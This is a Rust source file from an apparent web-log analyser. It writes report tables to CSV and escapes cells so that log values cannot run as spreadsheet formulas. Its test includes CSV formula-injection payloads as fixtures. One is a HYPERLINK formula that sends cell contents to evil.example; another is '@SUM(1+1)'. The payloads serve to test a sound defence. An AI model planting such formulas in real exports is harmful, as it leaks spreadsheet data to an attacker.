//! CSV output: one file per table, each with a header row.

use std::path::Path;

use anyhow::Context;
use hitstream_analyze::{NameCount, Report};
use serde::Serialize;

struct Dir<'a> {
    dir: &'a Path,
    written: usize,
}

impl Dir<'_> {
    /// Writes `rows` under an explicit header, so files of empty tables still say what they hold.
    /// Every cell goes through [`super::csv_text`]: names from the log (hosts, paths, agents)
    /// must not be formulas in a spreadsheet; the report's numbers are never negative, so they
    /// are left as they are.
    fn rows<T: Serialize>(
        &mut self,
        name: &str,
        header: &[&str],
        rows: &[T],
    ) -> anyhow::Result<()> {
        let path = self.dir.join(name);
        let writing = || format!("writing `{}`", path.display());
        let mut w = csv::WriterBuilder::new()
            .has_headers(false)
            .from_path(&path)
            .with_context(|| format!("cannot create `{}`", path.display()))?;
        w.write_record(header).with_context(writing)?;
        // Each row is serialized on its own, read back as fields and written cell by cell.
        let mut cells = csv::StringRecord::new();
        for r in rows {
            let mut one = csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(Vec::new());
            one.serialize(r).with_context(writing)?;
            let bytes = one
                .into_inner()
                .map_err(|e| e.into_error())
                .with_context(writing)?;
            let mut back = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(bytes.as_slice());
            if !back.read_record(&mut cells).with_context(writing)? {
                cells.clear();
            }
            w.write_record(cells.iter().map(|c| super::csv_text(c).into_owned()))
                .with_context(writing)?;
        }
        w.flush().with_context(writing)?;
        self.written += 1;
        Ok(())
    }

    /// Tables whose rows are (name, count), with a meaningful first column header.
    fn counts(&mut self, name: &str, key: &str, rows: &[NameCount]) -> anyhow::Result<()> {
        let rows: Vec<(&str, u64)> = rows.iter().map(|r| (r.name.as_str(), r.count)).collect();
        self.rows(name, &[key, "count"], &rows)
    }
}

#[derive(Serialize)]
struct KeyValue {
    key: &'static str,
    value: String,
}

#[derive(Serialize)]
struct OutcomeRow {
    outcome: &'static str,
    kind: String,
    count: u64,
}

#[derive(Serialize)]
struct HourCount {
    hour: usize,
    count: u64,
}

/// Writes every table of the report into `dir` (created if needed). Returns the file count.
pub fn write_dir(r: &Report, dir: &Path) -> anyhow::Result<usize> {
    std::fs::create_dir_all(dir)
        .with_context(|| format!("cannot create directory `{}`", dir.display()))?;
    let mut d = Dir { dir, written: 0 };
    let t = &r.totals;
    let opt = |o: &Option<String>| o.clone().unwrap_or_default();
    d.rows(
        "totals.csv",
        &["key", "value"],
        &[
            KeyValue {
                key: "inputs",
                value: r.meta.inputs.join(" "),
            },
            KeyValue {
                key: "format",
                value: r.meta.format.clone(),
            },
            KeyValue {
                key: "lines",
                value: t.lines.to_string(),
            },
            KeyValue {
                key: "ok",
                value: t.ok.to_string(),
            },
            KeyValue {
                key: "degraded",
                value: t.degraded.to_string(),
            },
            KeyValue {
                key: "rejected",
                value: t.rejected.to_string(),
            },
            KeyValue {
                key: "filtered",
                value: t.filtered.to_string(),
            },
            KeyValue {
                key: "requests",
                value: t.requests.to_string(),
            },
            KeyValue {
                key: "bytes",
                value: t.bytes.to_string(),
            },
            KeyValue {
                key: "errors",
                value: t.errors.to_string(),
            },
            KeyValue {
                key: "unique_hosts",
                value: r.unique_hosts.to_string(),
            },
            KeyValue {
                key: "first",
                value: opt(&t.first),
            },
            KeyValue {
                key: "last",
                value: opt(&t.last),
            },
            KeyValue {
                key: "first_local",
                value: opt(&t.first_local),
            },
            KeyValue {
                key: "last_local",
                value: opt(&t.last_local),
            },
            KeyValue {
                key: "days",
                value: t.days.to_string(),
            },
            KeyValue {
                key: "time_basis",
                value: r.meta.time_basis.clone(),
            },
        ],
    )?;
    let mut outcomes: Vec<OutcomeRow> = r
        .degraded
        .iter()
        .map(|n| OutcomeRow {
            outcome: "degraded",
            kind: n.name.clone(),
            count: n.count,
        })
        .collect();
    outcomes.extend(r.rejected.iter().map(|n| OutcomeRow {
        outcome: "rejected",
        kind: n.name.clone(),
        count: n.count,
    }));
    d.rows("outcomes.csv", &["outcome", "kind", "count"], &outcomes)?;
    d.rows(
        "content_size.csv",
        &[
            "count", "absent", "min", "max", "mean", "stddev", "p50", "p90", "p99",
        ],
        std::slice::from_ref(&r.content_size),
    )?;
    d.rows("status.csv", &["status", "count"], &r.status)?;
    d.counts("status_classes.csv", "class", &r.status_classes)?;
    d.counts("methods.csv", "method", &r.methods)?;
    d.rows(
        "top_hosts.csv",
        &["host", "requests", "bytes"],
        &r.top_hosts,
    )?;
    d.rows(
        "top_endpoints.csv",
        &["endpoint", "requests", "bytes"],
        &r.top_endpoints,
    )?;
    d.rows(
        "top_error_endpoints.csv",
        &["endpoint", "errors"],
        &r.top_error_endpoints,
    )?;
    d.rows(
        "top_non_200_endpoints.csv",
        &["endpoint", "non_200"],
        &r.top_non_200_endpoints,
    )?;
    d.rows(
        "daily.csv",
        &[
            "day",
            "requests",
            "bytes",
            "unique_hosts",
            "avg_requests_per_host",
            "not_found",
        ],
        &r.daily,
    )?;
    d.rows("hourly.csv", &["hour", "requests", "not_found"], &r.hourly)?;
    d.rows("timeline.csv", &["day", "hour", "requests"], &r.timeline)?;
    d.counts(
        "not_found_endpoints.csv",
        "endpoint",
        &r.not_found.top_endpoints,
    )?;
    d.counts("not_found_hosts.csv", "host", &r.not_found.top_hosts)?;
    let nf_daily: Vec<(String, u64)> = r
        .not_found
        .daily
        .iter()
        .map(|x| (x.day.clone(), x.count))
        .collect();
    d.rows("not_found_daily.csv", &["day", "count"], &nf_daily)?;
    let nf_hourly: Vec<HourCount> = r
        .not_found
        .hourly
        .iter()
        .enumerate()
        .map(|(hour, count)| HourCount {
            hour,
            count: *count,
        })
        .collect();
    d.rows("not_found_hourly.csv", &["hour", "count"], &nf_hourly)?;
    if let Some(v) = &r.top_referers {
        d.counts("referers.csv", "referer", v)?;
    }
    if let Some(v) = &r.top_user_agents {
        d.counts("user_agents.csv", "user_agent", v)?;
    }
    if let Some(a) = &r.agents {
        d.counts(
            "agents.csv",
            "kind",
            &[
                NameCount {
                    name: "bot".into(),
                    count: a.bots,
                },
                NameCount {
                    name: "tool".into(),
                    count: a.tools,
                },
                NameCount {
                    name: "other".into(),
                    count: a.others,
                },
            ],
        )?;
    }
    if let Some(q) = &r.request_time {
        d.rows(
            "request_time.csv",
            &[
                "count",
                "min_ms",
                "max_ms",
                "mean_ms",
                "stddev_ms",
                "p50_ms",
                "p90_ms",
                "p99_ms",
            ],
            std::slice::from_ref(q),
        )?;
    }
    if let Some(v) = &r.vhosts {
        d.counts("vhosts.csv", "vhost", v)?;
    }
    let shares = &["name", "count", "share"];
    if let Some(p) = &r.platforms {
        d.rows("browsers.csv", shares, &p.browsers)?;
        d.rows("browser_versions.csv", shares, &p.browser_versions)?;
        d.rows("operating_systems.csv", shares, &p.operating_systems)?;
        d.rows("device_categories.csv", shares, &p.categories)?;
    }
    if let Some(rs) = &r.referring_sites {
        d.rows("referring_sites.csv", shares, &rs.top_sites)?;
    }
    let sd = &r.static_dynamic;
    d.rows(
        "static_dynamic.csv",
        &["kind", "requests", "bytes"],
        &[
            ("static", sd.static_requests, sd.static_bytes),
            ("dynamic", sd.dynamic_requests, sd.dynamic_bytes),
        ],
    )?;
    d.rows(
        "top_static_files.csv",
        &["endpoint", "requests", "bytes"],
        &sd.top_static_files,
    )?;
    let heat: Vec<(String, usize, u64)> = r
        .weekday_hourly
        .iter()
        .flat_map(|w| {
            w.hours
                .iter()
                .enumerate()
                .map(|(h, c)| (w.weekday.clone(), h, *c))
        })
        .collect();
    d.rows(
        "weekday_hourly.csv",
        &["weekday", "hour", "requests"],
        &heat,
    )?;
    if let Some(g) = &r.geo {
        d.rows(
            "countries.csv",
            &["country", "requests", "share", "clients"],
            &g.countries,
        )?;
        if let Some(a) = &g.asns {
            d.rows(
                "asns.csv",
                &[
                    "asn",
                    "name",
                    "organization",
                    "requests",
                    "share",
                    "clients",
                ],
                a,
            )?;
        }
    }
    Ok(d.written)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_from_the_log_are_not_spreadsheet_formulas() {
        let r = Report {
            top_user_agents: Some(vec![
                NameCount {
                    name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
                    count: 3,
                },
                NameCount {
                    name: "-".into(),
                    count: 2,
                },
                NameCount {
                    name: "Mozilla/5.0, \"quoted\"".into(),
                    count: 1,
                },
            ]),
            methods: vec![NameCount {
                name: "@SUM(1+1)".into(),
                count: 1,
            }],
            ..Report::default()
        };
        let tmp = std::env::temp_dir().join(format!("hitstream-csv-test-{}", std::process::id()));
        write_dir(&r, &tmp).unwrap();
        let agents = std::fs::read_to_string(tmp.join("user_agents.csv")).unwrap();
        let methods = std::fs::read_to_string(tmp.join("methods.csv")).unwrap();
        let totals = std::fs::read_to_string(tmp.join("totals.csv")).unwrap();
        std::fs::remove_dir_all(&tmp).unwrap();
        assert_eq!(
            agents,
            "user_agent,count\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",3\n\
             -,2\n\
             \"Mozilla/5.0, \"\"quoted\"\"\",1\n"
        );
        assert_eq!(methods, "method,count\n'@SUM(1+1),1\n");
        assert!(totals.contains("\nlines,0\n"), "{totals}");
    }
}
